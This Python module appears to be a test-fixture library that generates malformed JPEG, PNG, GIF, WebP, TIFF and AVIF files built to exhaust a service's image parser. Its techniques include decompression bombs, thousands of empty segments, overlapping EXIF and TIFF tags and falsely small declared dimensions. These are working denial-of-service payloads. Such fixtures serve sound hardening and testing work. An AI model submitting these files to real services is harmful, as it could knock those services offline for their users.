"""Images made to hurt, each of a size that the service takes in: small to send, dear to read.

Headers of very many parts, or of parts that a general parser reads over and over; sizes that no file of that
length can hold; data that are inflated a thousandfold.
"""

import io
import struct
import zlib
from collections.abc import Callable, Mapping

from PIL import Image

__all__ = ["IMAGE_ATTACKS", "png_chunk"]

MEGABYTE = 10**6


def jpeg_of_exif_segments(size: int = 3 * MEGABYTE) -> bytes:
    """EXIF segments of twelve bytes, which Pillow joins one by one."""
    return _into_jpeg(_segment(0xE1, b"Exif\0\0II") * (size // 12))


def jpeg_of_empty_segments(size: int = 18 * MEGABYTE) -> bytes:
    """Application segments without content."""
    return _into_jpeg(_segment(0xE3, b"") * (size // 4))


def jpeg_of_fill(size: int = 18 * MEGABYTE) -> bytes:
    """A marker that is preceded by fill bytes alone."""
    return _into_jpeg(b"\xff" * size)


def jpeg_of_junk(size: int = 18 * MEGABYTE) -> bytes:
    """Bytes that are no marker, in front of one."""
    return _into_jpeg(b"\0" * size)


def jpeg_of_overlapping_exif() -> bytes:
    """EXIF data of 64 KB in which every tag has half of them for its value."""
    count = 2700
    values = struct.pack("<I", 12 * count)
    entries = b"".join(struct.pack("<HHI", tag, 7, 32_000) + values for tag in range(0x9000, 0x9000 + count))
    exif = b"Exif\0\0II*\0" + struct.pack("<IH", 8, count) + entries
    return _into_jpeg(_segment(0xE1, exif.ljust(65_500, b"\0")))


def jpeg_of_scans(size: int = 4 * MEGABYTE) -> bytes:
    """Scans without end."""
    whole = _encoded("JPEG", progressive=True)
    last, end = whole.rindex(b"\xff\xda"), whole.rindex(b"\xff\xd9")
    scan = whole[last:end]
    return whole[:end] + scan * (size // len(scan)) + whole[end:]


def png_of_tiny_chunks(size: int = 18 * MEGABYTE) -> bytes:
    """Chunks without content."""
    return _into_png(png_chunk(b"tEXt", b"") * (size // 12))


def png_of_tiny_pixels(size: int = 18 * MEGABYTE) -> bytes:
    """Pixels in chunks of which all but the first are empty."""
    whole = _encoded("PNG")
    return whole[:-12] + png_chunk(b"IDAT", b"") * (size // 12) + whole[-12:]


def png_of_inflating_profiles(count: int = 200) -> bytes:
    """Colour profiles that inflate to a hundred times their size."""
    zipped = zlib.compress(bytes(8 * MEGABYTE), 9)
    return _into_png(png_chunk(b"iCCP", b"p\0\0" + zipped) * count)


def png_of_inflating_texts(count: int = 600) -> bytes:
    """Texts of the largest size that Pillow inflates."""
    zipped = zlib.compress(bytes(MEGABYTE), 9)
    texts = [png_chunk(b"zTXt", b"%d\0\0" % at + zipped) for at in range(count // 2)]
    texts += [png_chunk(b"iTXt", b"i%d\0\1\0\0\0" % at + zipped) for at in range(count // 2)]
    return _into_png(b"".join(texts))


def gif_of_comments(size: int = 18 * MEGABYTE) -> bytes:
    """Comments of one byte."""
    whole = _encoded("GIF")
    start = whole.index(b"\x2c", 13 + (3 << 1 + (whole[10] & 7)))
    return whole[:start] + b"\x21\xfe\x01a\0" * (size // 5) + whole[start:]


def webp_of_chunks(size: int = 18 * MEGABYTE) -> bytes:
    """Chunks without content."""
    whole = _encoded("WEBP")
    body = whole[12:] + (b"JUNK" + bytes(4)) * (size // 8)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def webp_of_a_huge_canvas() -> bytes:
    """A still of 7,000 × 7,000 equal pixels, in less than two kilobytes."""
    return _encoded("WEBP", size=(7000, 7000), lossless=True)


def tiff_of_overlapping_tags() -> bytes:
    """A directory whose tags all have the same large value."""
    count, length = 65_000, 500_000
    value = struct.pack("<I", 8)
    entries = b"".join(struct.pack("<HHI", tag, 1, length) + value for tag in range(500, 500 + count))
    size = struct.pack("<HHIIHHII", 256, 4, 1, 64, 257, 4, 1, 64)
    start = 8 + length
    return b"II*\0" + struct.pack("<I", start) + bytes(length) + struct.pack("<H", count + 2) + size + entries


def tiff_of_repeated_tiles() -> bytes:
    """Tiles without compression, each of which covers the whole image, far more than one."""
    count, side = 20_000, 2000
    tags = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1)]
    tags += [(322, 4, 1, side + 1), (323, 4, 1, side + 1)]
    start = 8 + 4 * count
    tags += [(324, 4, count, 8), (325, 4, count, 8)]
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    pixels = bytes((side + 1) ** 2)
    return (
        b"II*\0" + struct.pack("<I", start) + struct.pack("<I", start + 200) * count
        + (struct.pack("<H", len(tags)) + entries + bytes(4)).ljust(200, b"\0") + pixels
    )  # fmt: skip


def avif_of_items(count: int = 100_000) -> bytes:
    """A table of items that a decoder searches for each of its entries."""
    whole = _encoded("AVIF")
    at = whole.index(b"iloc") - 4
    entries = b"".join(struct.pack(">HHH", one & 0xFFFF, 0, 0) for one in range(count))
    table = struct.pack(">I4sIHH", 16 + len(entries), b"iloc", 0, 0x4400, count & 0xFFFF) + entries
    meta = whole.index(b"meta") - 4
    (length,) = struct.unpack_from(">I", whole, meta)
    grown = struct.pack(">I", length + len(table)) + whole[meta + 4 : at] + table + whole[at:]
    return whole[:meta] + grown


def avif_of_hidden_frames(side: int = 8000) -> bytes:
    """An image that is said to be small, whose pixels are not."""
    whole = _encoded("AVIF", size=(side, side), speed=10)
    return whole.replace(struct.pack(">II", side, side), struct.pack(">II", 64, 64))


IMAGE_ATTACKS: Mapping[str, Callable[[], bytes]] = {
    function.__name__.replace("_", " "): function
    for function in (
        jpeg_of_exif_segments,
        jpeg_of_empty_segments,
        jpeg_of_fill,
        jpeg_of_junk,
        jpeg_of_overlapping_exif,
        jpeg_of_scans,
        png_of_tiny_chunks,
        png_of_tiny_pixels,
        png_of_inflating_profiles,
        png_of_inflating_texts,
        gif_of_comments,
        webp_of_chunks,
        webp_of_a_huge_canvas,
        tiff_of_overlapping_tags,
        tiff_of_repeated_tiles,
        avif_of_items,
        avif_of_hidden_frames,
    )
}
"""What each is called, and a function that makes it."""


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """One PNG chunk."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _encoded(format: str, size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(buffer, format, **options)
    return buffer.getvalue()


def _segment(marker: int, content: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", 2 + len(content)) + content


def _into_jpeg(parts: bytes) -> bytes:
    whole = _encoded("JPEG")
    return whole[:20] + parts + whole[20:]


def _into_png(parts: bytes) -> bytes:
    whole = _encoded("PNG")
    return whole[:33] + parts + whole[33:]
